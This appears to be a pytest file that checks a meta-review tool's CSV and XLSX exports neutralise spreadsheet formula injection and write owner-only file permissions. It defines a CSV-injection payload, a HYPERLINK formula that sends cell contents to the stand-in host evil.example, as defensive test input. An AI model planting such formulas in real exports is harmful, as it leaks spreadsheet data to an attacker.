"""Exports neutralise formula text (OWASP CSV injection; issue 8): an imported title such as
``=HYPERLINK(...)`` must not become a live formula in the CSV or XLSX export."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from metareview.cells import neutralise
from metareview.records.export import export_records
from metareview.records.importer import import_file
from metareview.report.html import Report, Section, Table, write_report
from metareview.report.tables import write_tables
from metareview.review import Review

HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'


def test_neutralise_each_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "x") == "'" + start + "x"
    assert neutralise("plain") == "plain" and neutralise(-1.5) == -1.5


def test_record_exports_neutralise_formulas(tmp_path: Path) -> None:
    review = Review.init(tmp_path / "rev")
    src = tmp_path / "in.csv"
    pd.DataFrame({"Title": [HOSTILE, "@SUM(1)"], "Year": [2001, 2002]}).to_csv(src, index=False)
    import_file(review, src, "Scopus")
    export_records(review, tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    export_records(review, tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    titles = [c.value for c in next(sheet.iter_cols(min_col=9, max_col=9))]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(v == "'" + HOSTILE for v in (c.value for c in cells)), titles


def test_report_tables_neutralise_formulas(tmp_path: Path) -> None:
    files = write_tables({"t": pd.DataFrame({"name": [HOSTILE], "yi": [-0.5]})}, tmp_path)
    assert "'=HYPERLINK" in files.csv["t"].read_text(encoding="utf-8")
    sheet = load_workbook(files.workbook).active
    assert sheet["A2"].value == "'" + HOSTILE and sheet["A2"].data_type != "f"
    assert sheet["B2"].value == -0.5


def test_store_exports_and_reports_are_owner_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("METAREVIEW_SHARED_FILES", raising=False)
    old = os.umask(0o022)
    try:
        review = Review.init(tmp_path / "rev")
        src = tmp_path / "in.csv"
        src.write_text("Title,Year\nA,2001\n", encoding="utf-8")
        import_file(review, src, "Scopus")
        for suffix in ("csv", "xlsx", "ris"):
            export_records(review, tmp_path / f"out.{suffix}")
            assert stat.S_IMODE(os.stat(tmp_path / f"out.{suffix}").st_mode) == 0o600
        assert stat.S_IMODE(os.stat(tmp_path / "rev" / "review.sqlite").st_mode) == 0o600
        table = Table("t", pd.DataFrame({"g": [0.5]}))
        report = write_report(Report(title="t", sections=[Section("s", tables=[table])]), tmp_path / "rep")
        assert stat.S_IMODE(os.stat(report.html).st_mode) == 0o600
        monkeypatch.setenv("METAREVIEW_SHARED_FILES", "1")
        export_records(review, tmp_path / "shared.csv")
        assert stat.S_IMODE(os.stat(tmp_path / "shared.csv").st_mode) == 0o644
    finally:
        os.umask(old)
